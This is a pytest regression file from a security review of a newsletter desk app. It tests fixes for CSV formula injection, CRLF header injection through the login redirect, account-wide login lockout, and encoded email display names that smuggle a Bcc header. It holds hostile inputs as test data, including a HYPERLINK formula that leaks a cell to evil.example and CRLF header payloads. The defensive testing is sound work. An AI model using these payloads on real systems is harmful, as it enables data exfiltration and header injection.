"""Security review of the desk (issue 15): each test reproduces one confirmed finding and fails
on the code as it was reviewed."""

from __future__ import annotations

import csv
import io
import re
import warnings
from datetime import UTC, datetime
from email import message_from_bytes, policy
from pathlib import Path

import pytest
from httpx import Response
from starlette.applications import Starlette

from syndicate.audience import importers, subscribers
from syndicate.desk import replies as desk_replies
from syndicate.desk.login import ACCOUNT_FAILURES, AccountLockout
from syndicate.desk.replies import display_name
from syndicate.inbound import pipeline
from syndicate.models import RecipientKind
from syndicate.runtime import Runtime
from syndicate.web.app import create_app
from tests.support.desk import ORIGIN, PASSWORD, SAME, attempt, client_for, field, login, sent_desk
from tests.support.inbound import fixture, load, replies
from tests.support.scheduling import Clock
from tests.support.web_client import load_settings

with warnings.catch_warnings():
    # Starlette 1.x asks for httpx2 in its TestClient; httpx itself works the same here.
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient


@pytest.fixture
def desk_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return sent_desk(tmp_path / "project", monkeypatch)


def _confirm_link(project: Path, before: set[Path]) -> str:
    [path] = set((project / "outbox").glob("*.eml")) - before
    message = message_from_bytes(path.read_bytes(), policy=policy.default)
    body = message.get_body(("plain",)).get_content()
    [token] = re.findall(r"/confirm/([A-Za-z0-9_.\-]+)", body)[:1]
    return f"/confirm/{token}"


def test_export_csv_neutralises_formulas_a_stranger_typed_at_signup(desk_project: Path) -> None:
    """A stranger subscribes with a spreadsheet formula as their name; the author's export
    (desk and CLI share it) hands it to Excel/LibreOffice/Sheets as a live formula."""
    stranger = client_for(desk_project)
    form = stranger.get("/subscribe").text
    before = set((desk_project / "outbox").glob("*.eml"))
    evil = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
    answer = stranger.post(
        "/subscribe",
        data={"csrf": field(form), "email": "mallory@example.org", "name": evil, "website": ""},
    )
    assert answer.status_code == 200, answer.text
    assert stranger.post(_confirm_link(desk_project, before)).status_code == 200

    author = client_for(desk_project)
    login(author)
    exported = author.get("/desk/subscribers/export.csv")
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), "the stranger is in the export"
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, f"cells a spreadsheet runs as formulas: {live}"


def test_a_crafted_next_does_not_break_the_login(desk_project: Path) -> None:
    """A link to /desk/login?next=/desk/%E2%82%AC (anyone can send the author one): the author
    types the right password and gets a 500, not the desk (the Location header cannot be
    encoded). Against a real `syndicate serve`, a next of "/desk/x\r\nSet-Cookie: a=b" passes
    _safe_next too and h11 drops the connection (no header injection, no login either)."""
    for wanted in ("/desk/\u20ac", "/desk/caf\u00e9"):
        client = TestClient(
            create_app(Runtime(load_settings(desk_project))),
            base_url="http://testserver",
            raise_server_exceptions=False,
        )
        page = client.get("/desk/login", params={"next": wanted})
        answer = client.post(
            "/desk/login",
            data={"csrf": field(page.text), "password": PASSWORD, "next": field(page.text, "next")},
            headers=SAME,
            follow_redirects=False,
        )
        assert answer.status_code == 303, (wanted, answer.status_code, answer.text[:200])
        assert "\n" not in answer.headers["location"]


def test_failed_logins_are_limited_for_the_account_not_only_per_address(
    desk_project: Path,
) -> None:
    """Each IPv6 /64 (or IPv4 address) gets its own 5 guesses per 15 minutes and nothing counts
    guesses against the one account: an attacker with a routed /48 has 65,536 × 5 guesses per
    window (limited only by argon2's speed), and past 10,000 addresses the limiter forgets the
    oldest ones anyway."""
    app = create_app(Runtime(load_settings(desk_project)))
    refused = 0
    for n in range(6):  # six /64s, 5 wrong guesses each: 30 guesses in one window
        client = TestClient(app, base_url="http://testserver", client=(f"2001:db8:0:{n}::1", 5))
        page = client.get("/desk/login")
        for _ in range(5):
            answer = client.post(
                "/desk/login",
                data={"csrf": field(page.text), "password": "wrong guess!"},
                headers=SAME,
            )
            refused += answer.status_code == 429
    assert refused > 0, "30 wrong passwords in one window, every one checked"


def test_a_strangers_from_name_cannot_make_the_answer_crash(desk_project: Path) -> None:
    """A stranger writes with an RFC 2047 display name that decodes to CR/LF
    (=?utf-8?q?Evil=0D=0ABcc=3A_x=40evil=2Eexample?=). It is stored undecoded, one_line() leaves
    it alone, and the email package refuses it when it is decoded again in the To header: the
    author's "Send answer" is a bare 500 and the message can never be answered. (Python's
    refusal is what stops the header injection; nothing in the desk does.)"""
    settings, engine, key = load(desk_project)
    raw = fixture("stranger.eml").replace(
        b"From: Priya Raman <priya@example.com>",
        b"From: =?utf-8?q?Evil=0D=0ABcc=3A_x=40evil=2Eexample?= <priya@example.com>",
        1,
    )
    pipeline.process(Runtime(settings, engine=engine, key=key), raw, source="test")
    [row] = [r for r in replies(desk_project) if r["kind"] == "unmatched"]
    client = TestClient(
        create_app(Runtime(load_settings(desk_project))),
        base_url="http://testserver",
        raise_server_exceptions=False,
    )
    csrf = login(client)
    before = set((desk_project / "outbox").glob("*.eml"))
    answer = client.post(
        f"/desk/replies/{row['id']}/answer",
        data={"csrf": csrf, "text": "Thank you for writing."},
        headers=SAME,
        follow_redirects=False,
    )
    assert answer.status_code in (303, 400), (answer.status_code, answer.text[:200])
    for path in set((desk_project / "outbox").glob("*.eml")) - before:
        head = path.read_bytes().split(b"\n\n", 1)[0].lower()
        assert b"\nbcc:" not in head


# --- the fixes, each from a second side ----------------------------------------------------------


def test_an_export_imports_back_with_the_formula_marks_taken_off(desk_project: Path) -> None:
    """The `'` the export puts before a formula is the export's, not the person's: the importer
    takes it off, so a list exported and imported again keeps every name as it was typed."""
    names = ['=HYPERLINK("https://evil.example","x")', "+1 555", "-dash", "@SUM(A1)", "Ada"]
    listing = "email,name\n" + "".join(
        f'p{n}@example.org,"{name.replace(chr(34), chr(34) * 2)}"\n' for n, name in enumerate(names)
    )
    source = desk_project / "people.csv"
    source.write_text(listing, encoding="utf-8")
    _, engine, _ = load(desk_project)
    subscribers.import_file(engine, source, RecipientKind.READER)

    exported = subscribers.export_csv(engine)
    by_email = {row["email"]: row for row in csv.DictReader(io.StringIO(exported))}
    written = [by_email[f"p{n}@example.org"]["name"] for n in range(len(names))]
    assert written == ["'" + name for name in names[:4]] + ["Ada"]

    again = importers.parse(source, data=exported.encode())
    assert not again.problems, again.problems
    read_back = {row.email: row.name for row in again.rows}
    assert [read_back[f"p{n}@example.org"] for n in range(len(names))] == names


def test_the_importer_takes_off_only_the_exports_mark() -> None:
    assert importers.restore_cell("'=1+1") == "=1+1"
    assert importers.restore_cell("'\t=1") == "\t=1"
    assert importers.restore_cell("O'Brien") == "O'Brien"
    assert importers.restore_cell("'quoted'") == "'quoted'"
    assert importers.neutralise_cell("\r=1") == "'\r=1"
    assert importers.neutralise_cell("O'Brien") == "O'Brien"


@pytest.mark.parametrize(
    "wanted",
    ["/desk/x\r\nSet-Cookie: a=b", "/desk/x\nLocation: //evil.example", "/desk/a b", "/desk/\x7f"],
)
def test_a_next_with_line_breaks_or_spaces_leads_to_the_desk_home(
    desk_project: Path, wanted: str
) -> None:
    client = client_for(desk_project)
    page = client.get("/desk/login", params={"next": wanted})
    assert field(page.text, "next") == "/desk/"
    answer = client.post(
        "/desk/login",
        data={"csrf": field(page.text), "password": PASSWORD, "next": wanted},
        headers=SAME,
        follow_redirects=False,
    )
    assert answer.status_code == 303
    assert answer.headers["location"] == "/desk/"
    assert "set-cookie: a=b" not in str(answer.headers).lower()


def test_a_plain_next_inside_the_desk_is_still_followed(desk_project: Path) -> None:
    client = client_for(desk_project)
    page = client.get("/desk/login", params={"next": "/desk/replies?kind=comment"})
    answer = client.post(
        "/desk/login",
        data={"csrf": field(page.text), "password": PASSWORD, "next": field(page.text, "next")},
        headers=SAME,
        follow_redirects=False,
    )
    assert answer.headers["location"] == "/desk/replies?kind=comment"


def _try(app: Starlette, address: str, password: str) -> Response:
    return attempt(TestClient(app, base_url=ORIGIN, client=(address, 5)), password)


def test_the_locked_account_refuses_the_right_password_then_takes_it_after_the_window(
    desk_project: Path,
) -> None:
    clock = Clock(datetime(2026, 12, 2, 9, 0, tzinfo=UTC))
    app = create_app(Runtime(load_settings(desk_project), clock=clock))
    guesses = [_try(app, f"198.51.100.{n // 5}", "wrong guess!") for n in range(ACCOUNT_FAILURES)]
    assert [g.status_code for g in guesses] == [401] * ACCOUNT_FAILURES

    usual = "203.0.113.7"  # the author's own address, never a wrong password from it
    refused = _try(app, usual, PASSWORD)
    assert refused.status_code == 429
    assert "Try again in 15 minutes." in refused.text
    assert int(refused.headers["retry-after"]) == 900

    clock.advance(seconds=901)
    answer = _try(app, usual, PASSWORD)
    assert answer.status_code == 303, answer.text[:300]
    assert answer.headers["location"] == "/desk/"


def test_each_lock_in_a_row_lasts_longer_and_the_right_password_clears_them(
    desk_project: Path,
) -> None:
    clock = Clock(datetime(2026, 12, 2, 9, 0, tzinfo=UTC))
    lockout = AccountLockout(Runtime(load_settings(desk_project), clock=clock), 3, 100)
    locks = []
    for _ in range(6):
        assert lockout.refused_for() == 0
        started = [lockout.wrong() for _ in range(3)]
        assert started[:2] == [0, 0]
        locks.append(started[2])
        assert lockout.refused_for() == started[2]
        clock.advance(seconds=started[2] + 1)
    assert locks == [100, 200, 400, 800, 1600, 1600]  # at most LONGEST_LOCK_WINDOWS windows

    lockout.right()
    assert [lockout.wrong() for _ in range(3)][-1] == 100
    clock.advance(seconds=101)
    assert [lockout.wrong(), lockout.wrong()] == [0, 0]
    clock.advance(seconds=101)  # those two are older than a window now: a third does not lock
    assert lockout.wrong() == 0


def test_a_strangers_encoded_from_name_is_answered_decoded_on_one_line(
    desk_project: Path,
) -> None:
    settings, engine, key = load(desk_project)
    raw = fixture("stranger.eml").replace(
        b"From: Priya Raman <priya@example.com>",
        b"From: =?utf-8?q?Evil=0D=0ABcc=3A_x=40evil=2Eexample?= <priya@example.com>",
        1,
    )
    pipeline.process(Runtime(settings, engine=engine, key=key), raw, source="test")
    [row] = [r for r in replies(desk_project) if r["kind"] == "unmatched"]
    client = client_for(desk_project)
    csrf = login(client)
    before = set((desk_project / "outbox").glob("*.eml"))
    answer = client.post(
        f"/desk/replies/{row['id']}/answer",
        data={"csrf": csrf, "text": "Thank you for writing."},
        headers=SAME,
        follow_redirects=False,
    )
    assert answer.status_code == 303, answer.text[:300]
    [path] = set((desk_project / "outbox").glob("*.eml")) - before
    sent = message_from_bytes(path.read_bytes(), policy=policy.default)
    assert sent["To"].addresses[0].addr_spec == "priya@example.com"
    assert sent["To"].addresses[0].display_name == "Evil Bcc: x@evil.example"
    assert sent["Bcc"] is None


def test_display_names_are_decoded_and_made_one_line() -> None:
    assert display_name("=?utf-8?q?Ren=C3=A9e?= Dupont") == "Renée Dupont"
    assert display_name("=?utf-8?q?a=0Db?=") == "a b"
    assert display_name("=?x-unknown?q?Bob?=") in ("Bob", "=?x-unknown?q?Bob?=")
    assert display_name("Plain\r\nName") == "Plain Name"


def test_a_header_the_email_package_refuses_is_a_400_page_with_a_message(
    desk_project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever else in a stranger's message makes a header unwritable: a page that says so."""
    settings, engine, key = load(desk_project)
    pipeline.process(
        Runtime(settings, engine=engine, key=key), fixture("stranger.eml"), source="test"
    )
    [row] = [r for r in replies(desk_project) if r["kind"] == "unmatched"]

    def refusing(*args: object, **kwargs: object) -> None:
        raise ValueError("Header values may not contain linefeed or carriage return characters")

    monkeypatch.setattr(desk_replies, "answer_message", refusing)
    client = client_for(desk_project)
    csrf = login(client)
    answer = client.post(
        f"/desk/replies/{row['id']}/answer",
        data={"csrf": csrf, "text": "Thank you for writing."},
        headers=SAME,
        follow_redirects=False,
    )
    assert answer.status_code == 400
    assert "could not be written" in answer.text
